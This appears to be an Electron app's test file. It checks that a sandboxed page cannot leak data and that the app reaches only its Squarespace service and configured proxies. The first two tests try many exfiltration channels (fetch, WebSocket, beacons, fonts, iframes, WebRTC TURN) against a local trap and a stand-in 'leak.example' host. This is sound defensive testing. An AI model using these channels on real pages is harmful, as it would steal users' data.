import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { expect, site, test } from './fixture.ts'
import type { Run } from './launch.ts'
import { readTraffic } from './net-log.ts'
import type { Traffic } from './net-log.ts'
import { openTrap } from './trap.ts'
import { tryEveryWayOut } from './ways-out.ts'

test('the page reaches no other program, not even through a peer connection', async ({ start }) => {
  const run = await start()
  const trap = await openTrap()
  const tried = await run.page.evaluate(`(async () => {
    const address = 'http://${trap.host}/?secret=key'
    const ended = {}
    const element = (name, properties) => new Promise((resolve) => {
      const made = Object.assign(document.createElement(name), properties)
      made.onerror = () => resolve('failed')
      made.onload = () => resolve('loaded')
      document.body.append(made)
    })
    ended.fetch = await fetch(address, { mode: 'no-cors' }).then(() => 'sent', () => 'failed')
    ended.xhr = await new Promise((resolve) => {
      const request = new XMLHttpRequest()
      request.onerror = () => resolve('failed')
      request.onload = () => resolve('sent')
      request.open('GET', address)
      request.send()
    })
    ended.socket = await new Promise((resolve) => {
      try {
        const socket = new WebSocket('ws://${trap.host}/')
        socket.onopen = () => resolve('sent')
        socket.onerror = () => resolve('failed')
      } catch { resolve('failed') }
    })
    ended.events = await new Promise((resolve) => {
      const source = new EventSource(address)
      source.onerror = () => { source.close(); resolve('failed') }
    })
    ended.image = await element('img', { src: address })
    ended.style = await element('link', { rel: 'stylesheet', href: address })
    ended.prefetch = await element('link', { rel: 'prefetch', href: address })
    ended.video = await element('video', { src: address })
    for (const rel of ['preconnect', 'dns-prefetch', 'prerender']) {
      document.head.append(Object.assign(document.createElement('link'), { rel, href: address }))
    }
    document.body.append(Object.assign(document.createElement('iframe'), { src: address }))
    navigator.sendBeacon(address, 'key')
    ended.font = await new FontFace('stolen', 'url(' + address + ')').load().then(() => 'sent', () => 'failed')
    ended.peer = await new Promise((resolve) => {
      try {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${trap.udpPort}' }, { urls: ['turn:127.0.0.1:${trap.udpPort}', 'turn:${trap.host}?transport=tcp'], username: 'a stolen key', credential: 'x' }] })
        peer.createDataChannel('leak')
        peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve('failed')
        peer.setLocalDescription().catch(() => resolve('failed'))
      } catch { resolve('failed') }
    })
    return ended
  })()`)
  expect(Object.entries(Object(tried)).filter(([, ended]) => ended !== 'failed')).toEqual([])
  expect(trap.hits()).toBe(0)
  await trap.close()
})

/** What Chromium's network process does meanwhile, for pages and for the app itself. */
async function trafficOf(run: Run, path: string, work: () => Promise<unknown>): Promise<Traffic> {
  await run.app.evaluate(({ netLog }, to) => netLog.startLogging(to), path)
  await work()
  // Goes to that process as what the page asked for did, and so behind it.
  await run.app.evaluate(({ session }) => session.defaultSession.resolveHost('localhost'))
  await run.app.evaluate(({ netLog }) => netLog.stopLogging())
  return readTraffic(path)
}

/** The proxy that is not there. */
const nowhere = '127.0.0.1:9'

test('no way out of the page leads anywhere, not even to a name server', async ({
  start,
  computer,
}) => {
  const run = await start()
  const [trap, at] = [await openTrap(), run.page.url()]
  const { names, addresses } = await trafficOf(
    run,
    join(computer.profile, 'net.json'),
    async () => {
      await run.page.evaluate(tryEveryWayOut(`(way) => 'https://' + way + '.leak.example/?key'`))
      await run.page.evaluate(tryEveryWayOut(`(way) => 'http://${trap.host}/' + way + '?key'`))
    },
  )
  expect(names).toEqual([])
  expect(addresses.filter((address) => address !== nowhere)).toEqual([])
  expect(trap.hits()).toBe(0)
  expect(computer.xdgOpen.opened()).toEqual([])
  // Where the link with a ping leads.
  expect(run.page.url()).toBe(`${at}#here`)
  await trap.close()
})

test('the app itself speaks to its Squarespace and to nobody else', async ({
  start,
  practice,
  computer,
  sites,
}) => {
  const path = join(computer.profile, 'net.json')
  const run = await start(`--log-net-log=${path}`)
  await run.connect(site(sites, 0).apiKey)
  await run.quit()
  expect(await readTraffic(path)).toEqual({ names: [], addresses: [new URL(practice.origin).host] })
})

test('requests still go through a proxy that has a name, or that a script names', async ({
  start,
  computer,
}) => {
  const asked: string[] = []
  const proxy = createServer(({ url = '' }, response) => {
    asked.push(url)
    const script = `function FindProxyForURL() {
      return 'PROXY ' + (dnsResolve('in-the-script.example') ?? 'localhost') + ':${port()}'
    }`
    response.end(url === '/proxy.pac' ? script : 'answer')
  }).listen(0, '127.0.0.1')
  const port = () => (proxy.address() as AddressInfo).port
  const run = await start()
  const ask = (proxyConfig: Electron.ProxyConfig) =>
    run.app.evaluate(async ({ session }, config) => {
      const own = session.fromPartition(JSON.stringify(config))
      await own.setProxy(config)
      return own.fetch('http://squarespace.example/').then((response) => response.text(), String)
    }, proxyConfig)
  const { names } = await trafficOf(run, join(computer.profile, 'net.json'), async () => {
    expect(await ask({ proxyRules: `http://localhost:${port()}` })).toBe('answer')
    expect(await ask({ pacScript: `http://localhost:${port()}/proxy.pac` })).toBe('answer')
    expect(await ask({ proxyRules: 'http://proxy.example:3128' })).toContain('ERR_PROXY')
  })
  expect(asked).toEqual([
    'http://squarespace.example/',
    '/proxy.pac',
    'http://squarespace.example/',
  ])
  expect(names).toEqual(expect.arrayContaining(['proxy.example', 'in-the-script.example']))
  proxy.closeAllConnections()
  proxy.close()
})
